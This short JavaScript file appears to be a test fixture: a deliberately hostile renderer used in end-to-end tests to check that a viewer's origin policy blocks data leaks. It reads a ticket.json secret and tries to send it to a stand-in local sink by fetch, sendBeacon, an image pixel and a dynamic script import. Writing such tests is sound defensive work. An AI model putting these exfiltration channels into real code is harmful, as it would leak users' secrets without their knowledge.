// A renderer the customer pinned that tries to send what it decrypts to an origin the viewer's
// policy does not allow (the end-to-end tests observe each attempt blocked). It must never be
// pinned outside the tests.
export async function render(view) {
  const report = await view.client.readPrefix(view.prefix);
  const ticket = report.objects.find((o) => o.key.endsWith("ticket.json"));
  const secret = encodeURIComponent(ticket ? await ticket.text() : "nothing");
  const sink = "http://127.0.0.1:9";
  const outcomes = {};
  outcomes.fetch = await fetch(`${sink}/collect?d=${secret}`, { method: "POST", body: secret, mode: "no-cors" })
    .then(() => "sent", () => "blocked");
  outcomes.beacon = navigator.sendBeacon(`${sink}/beacon`, secret) ? "queued" : "blocked";
  outcomes.image = await new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("blocked");
    image.src = `${sink}/pixel.png?d=${secret}`;
  });
  outcomes.script = await import(`${sink}/exfiltrate.js?d=${secret}`).then(() => "ran", () => "blocked");
  const result = document.createElement("pre");
  result.id = "leaky-outcomes";
  result.textContent = JSON.stringify(outcomes);
  view.root.replaceChildren(result);
  view.status("");
}
